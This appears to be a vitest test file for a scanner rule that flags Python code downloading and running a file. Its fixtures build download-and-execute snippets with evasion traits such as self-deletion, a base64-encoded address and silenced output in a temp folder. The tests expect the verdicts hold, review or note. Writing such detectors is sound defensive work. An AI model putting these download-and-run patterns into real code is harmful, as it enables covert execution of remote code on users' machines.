import { describe, expect, it } from 'vitest';
import { installedPythonLowering } from '../python/testing/pythonLowering.ts';
import { pythonShapes } from './pythonShapes.ts';

const lower = await installedPythonLowering();
const verdicts = (path: string, text: string): string[] =>
  pythonShapes([{ path, text, module: lower(path, text) }], lower)
    .filter(({ rule }) => rule === 'shape.download-and-run')
    .map(({ decision }) => decision);

/** Fetches a file and starts it; the parts in which downloads differ are given. */
function module({ address = 'url', path = 'where', run = 'subprocess.Popen([p])', more = '' }): string {
  return `import base64, os, subprocess, tempfile, urllib.request
def get(url, where):
    p = ${path}
    urllib.request.urlretrieve(${address}, p)
    ${run}
    ${more === '' ? 'pass' : more}
`;
}

describe('a download of Python that is run', () => {
  it.each([
    ['removes its own file', { more: 'os.remove(__file__)' }],
    ['decodes its address', { address: "base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQveA==').decode()" }],
    [
      'is quiet, runs on by itself and lies in a folder for temporary files',
      {
        path: "os.path.join(tempfile.gettempdir(), 'x')",
        run: 'subprocess.Popen([p], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)',
      },
    ],
  ])('is held where it %s', (_, parts) => {
    expect(verdicts('p/a.py', module(parts))).toEqual(['hold']);
  });

  it.each([
    ['as installers do it', {}],
    ['in a folder for temporary files', { path: "os.path.join(tempfile.gettempdir(), 'x')" }],
    [
      'quietly, and waited for',
      { path: "os.path.join(tempfile.mkdtemp(), 'x')", run: 'subprocess.Popen([p], stdout=subprocess.DEVNULL).wait()' },
    ],
  ])('%s is to be read', (_, parts) => {
    expect(verdicts('p/a.py', module(parts))).toEqual(['review']);
  });

  it('is a note in the tests of a package', () => {
    expect(verdicts('tests/a.py', module({ more: 'os.remove(__file__)' }))).toEqual(['note']);
  });
});
